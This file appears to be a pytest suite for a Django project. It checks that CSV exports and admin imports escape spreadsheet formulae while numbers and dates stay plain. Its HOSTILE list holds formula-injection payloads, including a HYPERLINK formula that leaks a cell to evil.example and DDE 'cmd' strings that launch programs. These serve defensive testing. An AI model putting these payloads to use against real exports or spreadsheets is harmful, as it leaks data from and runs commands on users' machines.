"""CSV files open in a spreadsheet as data: no cell runs as a formula, numbers and dates stay plain."""

import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from jurisdictions import spreadsheet
from jurisdictions.models import Source
from jurisdictions.resources import JurisdictionResource, PolicyEventResource, SourceResource
from tests.factories import JurisdictionFactory, PolicyEventFactory, RegimePeriodFactory, SourceFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_leading_quote_and_comes_back_unchanged(text):
    escaped = spreadsheet.escape_cell(text)
    assert escaped == "'" + text
    assert spreadsheet.unescape_cell(escaped) == text


@pytest.mark.parametrize(
    "value",
    [3, -3, 2.5, -0.5, datetime.date(2003, 6, 28), None, True, "-3", "+2.5", "-1e3", "2003-06-28", "New Zealand", "'"],
)
def test_numbers_dates_and_plain_text_stay_plain(value):
    assert spreadsheet.escape_cell(value) == value
    assert spreadsheet.unescape_cell(value) == value


def test_writers_escape_every_row_like_the_csv_module():
    buffer = io.StringIO()
    writer = spreadsheet.DictWriter(buffer, fieldnames=["name", "count"])
    writer.writeheader()
    writer.writerow({"name": "=1+1", "count": -4})
    spreadsheet.writer(buffer).writerows([["@x", 7], ["plain", "-7"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["name", "count"],
        ["'=1+1", "-4"],
        ["'@x", "7"],
        ["plain", "-7"],
    ]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run as formulae (plain numbers excepted)."""
    return [
        cell
        for cell in cells(text)
        if cell.startswith(spreadsheet.FORMULA_TRIGGERS) and not spreadsheet.PLAIN_NUMBER.fullmatch(cell)
    ]


@pytest.mark.django_db
class TestPublicExports:
    def test_browse_export_escapes_hostile_names(self, client):
        for index, name in enumerate(HOSTILE):
            RegimePeriodFactory(jurisdiction=JurisdictionFactory(name=name, slug=f"hostile-{index}"))
        body = client.get("/jurisdictions/export.csv").getvalue().decode("utf-8-sig")
        assert formula_cells(body) == []
        names = [row["name"] for row in csv.DictReader(io.StringIO(body))]
        assert sorted(spreadsheet.unescape_cell(name) for name in names) == sorted(HOSTILE)

    def test_numbers_and_dates_stay_plain_in_exports(self, client):
        RegimePeriodFactory(jurisdiction=JurisdictionFactory(name="=Ruritania", slug="ruritania"))
        row = next(csv.DictReader(io.StringIO(client.get("/jurisdictions/export.csv").getvalue().decode("utf-8-sig"))))
        assert row["regime_since"] == "2003-06-28" and row["name"] == "'=Ruritania"
        chart = list(csv.reader(io.StringIO(client.get("/models/over-time.csv").content.decode("utf-8-sig"))))
        assert chart[1][0].isdigit() and all(cell.isdigit() for cell in chart[1][2:])


@pytest.mark.django_db
class TestAdminExportsAndImports:
    def test_admin_exports_escape_names_notes_and_titles(self):
        for index, text in enumerate(HOSTILE):
            jurisdiction = JurisdictionFactory(name=text, slug=f"hostile-{index}", notes=text)
            PolicyEventFactory(jurisdiction=jurisdiction, title=text, description=text, notes=text)
            SourceFactory(title=text, notes=text)
        for resource in (JurisdictionResource(), PolicyEventResource(), SourceResource()):
            exported = spreadsheet.SpreadsheetSafeCSV().export_data(resource.export())
            assert formula_cells(exported) == [], type(resource).__name__
            assert "'=HYPERLINK(" in exported

    def test_admin_offers_only_the_safe_csv_and_json(self, admin_client):
        page = admin_client.get(reverse("admin:jurisdictions_jurisdiction_export")).content.decode()
        assert ">csv<" in page and ">json<" in page and ">tsv<" not in page and ">html<" not in page

    def test_an_exported_file_reimports_unchanged(self, admin_client):
        SourceFactory(slug="hostile", title=HOSTILE[0], url="https://example.org/h", notes="-2+3+cmd|' /C calc'!A0")
        exported = spreadsheet.SpreadsheetSafeCSV().export_data(SourceResource().export())
        assert formula_cells(exported) == []
        Source.objects.filter(slug="hostile").update(title="Changed meanwhile")
        response = admin_client.post(
            reverse("admin:jurisdictions_source_import"),
            {"import_file": SimpleUploadedFile("sources.csv", exported.encode()), "format": "0"},
        )
        confirm = response.context["confirm_form"]
        admin_client.post(
            reverse("admin:jurisdictions_source_process_import"),
            {name: confirm[name].value() for name in confirm.fields},
        )
        source = Source.objects.get(slug="hostile")
        assert source.title == HOSTILE[0] and source.notes == "-2+3+cmd|' /C calc'!A0"
